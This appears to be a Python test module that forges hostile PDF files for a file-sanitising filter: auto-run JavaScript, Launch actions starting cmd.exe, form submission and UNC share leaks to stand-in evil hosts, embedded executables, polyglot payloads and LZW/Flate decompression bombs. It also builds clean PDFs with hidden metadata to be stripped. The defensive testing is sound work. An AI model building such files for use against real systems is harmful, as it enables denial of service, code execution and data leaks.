"""PDF files that must not pass, and sound ones with much that must not survive."""

import zlib
from collections.abc import Iterator

from tests.filters.hostile.cases import Case, Sound
from tests.filters.hostile.pdf_forge import CONTENT, FONT, good, pdf, stream, updated
from tests.filters.hostile.pdf_sharing import DEAR, bombs
from tests.filters.hostile.visual import OTHERS, PAYLOADS, saved

PACKS = ("pdf", "pdf_raster")
BROKEN = ("syntax", "too-many-frames", "model-shape", "too-deep", "too-many-elements")
OUTSIDE = ("syntax", "trailing-data", "type-unknown", "type-not-allowed", "size-out-of-bounds")
ACTIVE = ("pdf-active",)
SIZE = ("size-out-of-bounds", "too-many-pixels", "syntax", "picture-compression")


def hostile() -> Iterator[Case]:
    yield from _outside()
    yield from _actions()
    yield from _more_than_pages()
    yield from _objects()
    yield from _bombs()
    yield from bombs()


def _outside() -> Iterator[Case]:
    whole = pdf()
    for name, payload in PAYLOADS.items():
        if name != "one zero byte":
            yield Case(f"{name} behind the end", whole + payload, OUTSIDE)
    for name in ("zip", "html", "pe", "elf", "javascript"):
        yield Case(f"{name} before the header", PAYLOADS[name] + whole, OUTSIDE)
    for name, payload in OTHERS.items():
        yield Case(f"no PDF: {name}", payload, OUTSIDE)
    yield Case("a picture", saved("PNG"), ("type-not-allowed",))
    yield Case("declared as text", whole, ("type-not-allowed",), "text/plain")
    yield Case("declared as a picture", whole, ("type-not-allowed",), "image/png")
    yield Case("version 1.9", pdf(header=b"%PDF-1.9\n"), OUTSIDE)
    yield Case("version 3.0", pdf(header=b"%PDF-3.0\n"), OUTSIDE)
    yield Case("no version", pdf(header=b"%PDF-\n"), OUTSIDE)
    yield Case("a blank before the header", b" " + whole, OUTSIDE)
    yield Case("no end mark", pdf(end=b""), OUTSIDE)
    yield Case("no place of the table", whole.replace(b"startxref", b"startxyzf"), OUTSIDE)
    yield Case("a table beyond the end", whole.rsplit(b"\n", 3)[0] + b"\n999999\n%%EOF\n", OUTSIDE)
    yield Case("a table that is none", whole.rsplit(b"\n", 3)[0] + b"\n20\n%%EOF\n", BROKEN)
    yield Case("places that are wrong", pdf(shift=3), BROKEN)
    for part in (3, 8, 12, 15):
        yield Case(f"cut after {part}/16", whole[: len(whole) * part // 16], OUTSIDE)
    yield Case(
        "encrypted",
        pdf(
            trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>/ID[(a)(a)]"
            % (b"o" * 32, b"u" * 32)
        ),
        ("pdf-encrypted", "syntax"),
    )
    yield Case(
        "encrypted by an unknown handler",
        pdf(trailer=b"/Encrypt<</Filter/Evil/V 5>>"),
        ("pdf-encrypted", "syntax"),
    )


def _actions() -> Iterator[Case]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    actions = {
        "a script": script,
        "a script in a stream": b"<</S/JavaScript/JS 6 0 R>>",
        "a script by an escaped name": b"<</S/Java#53cript/J#53(app.alert(1))>>",
        "a program to start": b"<</S/Launch/F(cmd.exe)>>",
        "a program to start on Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "a form to send": b"<</S/SubmitForm/F(http://evil.example)>>",
        "data to import": b"<</S/ImportData/F(data.fdf)>>",
        "a sound": b"<</S/Sound/Sound 6 0 R>>",
        "a movie": b"<</S/Movie/T(x)>>",
        "a rendition": b"<</S/Rendition/OP 0/JS(1)>>",
        "a three-dimensional view": b"<</S/GoTo3DView>>",
        "a transition in 3D": b"<</S/Trans3D>>",
        "rich media": b"<</S/RichMediaExecute>>",
    }
    more = {6: stream(b"app.alert(1)")}
    for name, action in actions.items():
        yield Case(
            f"on opening: {name}", pdf(good(catalog=b"/OpenAction" + action, more=more)), ACTIVE
        )
    for trigger in (b"O", b"C"):
        yield Case(
            f"a page's action {trigger.decode()}",
            pdf(good(b"/AA<</%s%s>>" % (trigger, script))),
            ACTIVE,
        )
    for trigger in (b"WC", b"WS", b"DS", b"WP", b"DP"):
        yield Case(
            f"the document's action {trigger.decode()}",
            pdf(good(catalog=b"/AA<</%s%s>>" % (trigger, script))),
            ACTIVE,
        )
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]"
    yield Case("a link: a script", pdf(good(link % script)), ACTIVE)
    yield Case(
        "a link: a chain of actions",
        pdf(good(link % (b"<</S/URI/URI(x)/Next%s>>" % script))),
        ACTIVE,
    )
    yield Case(
        "a bookmark: a script",
        pdf(
            good(
                catalog=b"/Outlines 6 0 R",
                more={
                    6: b"<</First 7 0 R/Last 7 0 R>>",
                    7: b"<</Title(x)/Parent 6 0 R/A%s>>" % script,
                },
            )
        ),
        ACTIVE,
    )
    yield Case(
        "a script by name",
        pdf(good(catalog=b"/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", more={6: script})),
        ACTIVE,
    )
    yield Case("a script that nothing refers to", pdf(good(more={6: script})), ACTIVE)
    yield Case(
        "a script in an update",
        updated(pdf(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % script}),
        ACTIVE,
    )
    packed = b"6 0 " + script
    yield Case("a script in an object stream", _object_stream(packed), (*ACTIVE, "syntax"))


def _object_stream(packed: bytes) -> bytes:
    """Objects within a stream, and a table that is a stream."""
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    objects = good(
        catalog=b"/OpenAction 6 0 R", more={7: stream(packed, b"/Type/ObjStm/N 1/First 4", True)}
    )
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = b"\x00\x00\x00\x00"
    for number in range(1, 9):
        if number == 6:
            rows += b"\x02" + (7).to_bytes(2, "big") + b"\x00"
        else:
            rows += b"\x01" + places.get(number, start).to_bytes(2, "big") + b"\x00"
    out += (
        b"8 0 obj\n" + stream(rows, b"/Type/XRef/W[1 2 1]/Size 9/Root 1 0 R", True) + b"\nendobj\n"
    )
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def _more_than_pages() -> Iterator[Case]:
    file = stream(b"MZ", b"/Type/EmbeddedFile")
    named = b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>"
    spec = b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"
    embedded = ("pdf-embedded",)
    yield Case("an embedded file", pdf(good(catalog=named, more={6: spec, 7: file})), embedded)
    yield Case(
        "an attached file",
        pdf(
            good(
                b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]",
                more={6: spec, 7: file},
            )
        ),
        embedded,
    )
    yield Case("a portfolio", pdf(good(catalog=b"/Collection<</View/T>>")), embedded)
    yield Case(
        "associated files", pdf(good(catalog=b"/AF[6 0 R]", more={6: spec, 7: file})), embedded
    )
    yield Case(
        "a way into an embedded file", pdf(good(catalog=b"/OpenAction<</S/GoToE/T<<>>>>")), embedded
    )
    form = b"/AcroForm<</Fields[6 0 R]>>"
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[0 0 9 9]>>"
    yield Case("a form", pdf(good(catalog=form, more={6: field})), ("pdf-form",))
    yield Case(
        "an XFA form",
        pdf(good(catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>", more={6: stream(b"<xdp:xdp/>")})),
        ("pdf-form",),
    )
    external = ("pdf-external",)
    yield Case(
        "another file's page",
        pdf(good(catalog=b"/OpenAction<</S/GoToR/F(b.pdf)/D[0/Fit]>>")),
        external,
    )
    yield Case(
        "a share by which a name is told",
        pdf(good(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)>>")),
        external,
    )
    yield Case(
        "content in another file",
        pdf(good(more={4: b"<</F(http://evil.example)/Length 0>>\nstream\n\nendstream"})),
        external,
    )
    layers = b"/OCProperties<</OCGs[6 0 R]/D<<%s>>>>"
    group = {6: b"<</Type/OCG/Name(hidden)>>"}
    yield Case(
        "a layer that is off",
        pdf(good(catalog=layers % b"/OFF[6 0 R]", more=group)),
        ("pdf-layers",),
    )
    yield Case(
        "all layers off", pdf(good(catalog=layers % b"/BaseState/OFF", more=group)), ("pdf-layers",)
    )
    yield Case(
        "media on a page",
        pdf(good(b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
        ACTIVE,
    )
    yield Case(
        "a 3D picture", pdf(good(b"/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>]")), ACTIVE
    )
    yield Case(
        "a movie on a page",
        pdf(good(b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>]")),
        ACTIVE,
    )
    yield Case(
        "a screen on a page",
        pdf(good(b"/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>]")),
        ACTIVE,
    )


def _objects() -> Iterator[Case]:
    yield Case("no catalog", pdf({2: b"<</Type/Pages/Kids[]/Count 0>>"}), BROKEN)
    yield Case("no pages", pdf(good(more={2: b"<</Type/Pages/Kids[]/Count 0>>"})), BROKEN)
    yield Case(
        "pages in a circle", pdf(good(more={2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})), BROKEN
    )
    yield Case("a catalog that is a number", pdf(good(more={1: b"7"})), BROKEN)
    yield Case("brackets 1,000 deep", pdf(good(more={6: b"[" * 1_000 + b"]" * 1_000})), BROKEN)
    yield Case(
        "dictionaries 1,000 deep", pdf(good(more={6: b"<</A" * 1_000 + b">>" * 1_000})), BROKEN
    )
    yield Case("an object that does not end", pdf(good(more={6: b"<</A[1 2"})), BROKEN)
    yield Case("an object of garbage", pdf(good(more={6: b"<</A %%$#@ >> ) ]"})), BROKEN)


def _bombs() -> Iterator[Case]:
    yield Case(
        "bomb: content of 300 MB", pdf(good(more={4: stream(b" " * (300 << 20), b"", True)})), SIZE
    )
    twice = zlib.compress(zlib.compress(bytes(300 << 20), 9), 9)
    body = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n%s\nendstream" % (
        len(twice),
        twice,
    )
    yield Case("bomb: content deflated twice", pdf(good(more={4: body})), SIZE)
    body = body.replace(b"[/FlateDecode", b"[/FlateDecode/FlateDecode/FlateDecode", 1)
    yield Case("bomb: four filters", pdf(good(more={4: body})), SIZE)
    packed = zlib.compress(b"6 0 " + b" " * (250 << 20), 9)
    names = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
    yield Case("bomb: an object stream", pdf(good(more={7: names % (len(packed), packed)})), SIZE)
    runs = stream(b"\x81 " * (4 << 20) + b"\x80", b"/Filter/RunLengthDecode")
    yield Case("bomb: run lengths of 500 MB", pdf(good(more={4: runs})), SIZE)
    codes = b"/Filter/LZWDecode"
    yield Case("bomb: LZW of 400 MB", pdf(good(more={4: stream(_lzw_bomb(), codes)})), SIZE)
    many = b"".join(b"%d 0 obj\nnull\nendobj\n" % number for number in range(6, 120_000))
    yield Case("bomb: 120,000 objects", pdf(header=b"%PDF-1.4\n" + many), ("too-many-elements",))
    kids = b"<</Type/Pages/Kids[%s]/Count 600>>" % (b"3 0 R " * 600)
    yield Case("bomb: 600 pages", pdf(good(more={2: kids})), BROKEN)
    yield Case(
        "bomb: a list of a million",
        pdf(good(more={6: b"[" + b"1 " * 1_000_000 + b"]"})),
        (*BROKEN, *SIZE, *DEAR),
    )


def _lzw_bomb() -> bytes:
    """Codes each of which stands for one byte more than the one before."""
    held, bits, out = 0, 0, bytearray()
    width, known = 9, 257
    for code in [256, 65, *range(258, 4094)] * 50:
        held, bits = held << width | code, bits + width
        out += (held >> bits % 8).to_bytes(bits // 8, "big")
        held, bits = held & ((1 << bits % 8) - 1), bits % 8
        width, known = (9, 257) if code == 256 else (width, known + 1)
        if known + 1 >= 1 << width and width < 12:
            width += 1
    return bytes(out)


def sound() -> Iterator[Sound]:
    link = (
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://HIDDEN-LINK)>>>>]"
    )
    catalog = b"/Metadata 6 0 R/Lang(HIDDEN-LANGUAGE)/PageLabels<</Nums[0<</P(HIDDEN-LABEL)>>]>>"
    more = {
        6: stream(b"<x>HIDDEN-METADATA</x>", b"/Type/Metadata/Subtype/XML"),
        7: b"(HIDDEN-UNUSED)",
        8: b"<</Title(HIDDEN-TITLE)/Author(HIDDEN-AUTHOR)>>",
    }
    content = b"/Span<</ActualText(HIDDEN-ACTUAL)>>BDC\n" + CONTENT + b"\nEMC % HIDDEN-COMMENT\n"
    whole = pdf(
        good(link + b"/PieceInfo<</X(HIDDEN-PIECE)>>", catalog, content, more),
        b"/Info 8 0 R/ID[(HIDDEN-IDENT)(b)]",
    )
    yield Sound(
        "with all metadata",
        whole,
        tuple(
            b"HIDDEN-" + name
            for name in (
                b"LINK",
                b"LANGUAGE",
                b"LABEL",
                b"METADATA",
                b"UNUSED",
                b"TITLE",
                b"AUTHOR",
                b"ACTUAL",
                b"COMMENT",
                b"PIECE",
                b"IDENT",
            )
        ),
    )
    before = pdf(good(content=b"BT /F1 12 Tf 10 50 Td (HIDDEN-REVISION) Tj ET"))
    yield Sound(
        "with an earlier revision", updated(before, {4: stream(CONTENT)}), (b"HIDDEN-REVISION",)
    )
    resources = (
        b"/Type/XObject/Subtype/Image/Width 2/Height 2/ColorSpace/DeviceGray/BitsPerComponent 8"
    )
    unused = {6: stream(b"HIDDEN-SAMPLES", resources)}
    yield Sound("with a picture that nothing shows", pdf(good(more=unused)), (b"HIDDEN-SAMPLES",))
    mask = (
        b"q 20 0 0 20 5 5 cm BI /W 8 /H 8 /IM true /BPC 1 ID \xaa\x55\xaa\x55\xaa\x55\xaa\x55 EI Q"
    )
    yield Sound("an inline picture", pdf(good(content=mask)))
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Rotate 90"
        b"/Resources<</XObject<</X 6 0 R>>>>>>"
    )
    image = (
        b"/Type/XObject/Subtype/Image/Width 48/Height 40/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/DCTDecode"
    )
    jpeg = saved("JPEG", comment=b"HIDDEN-NOTE")
    body = b"<<%s/Length %d>>\nstream\n%s\nendstream" % (image, len(jpeg), jpeg)
    shown = good(content=b"q 96 0 0 80 4 4 cm /X Do Q", more={3: page, 6: body})
    yield Sound("a JPEG picture", pdf(shown), (b"HIDDEN-NOTE",))
    yield Sound(
        "layers that are shown",
        pdf(
            good(
                catalog=b"/OCProperties<</OCGs[6 0 R]/D<<>>>>",
                more={6: b"<</Type/OCG/Name(HIDDEN-LAYER)>>"},
            )
        ),
        (b"HIDDEN-LAYER",),
    )
    yield Sound(
        "an empty page",
        pdf(
            {
                1: good()[1],
                2: good()[2],
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
                5: FONT,
            }
        ),
    )
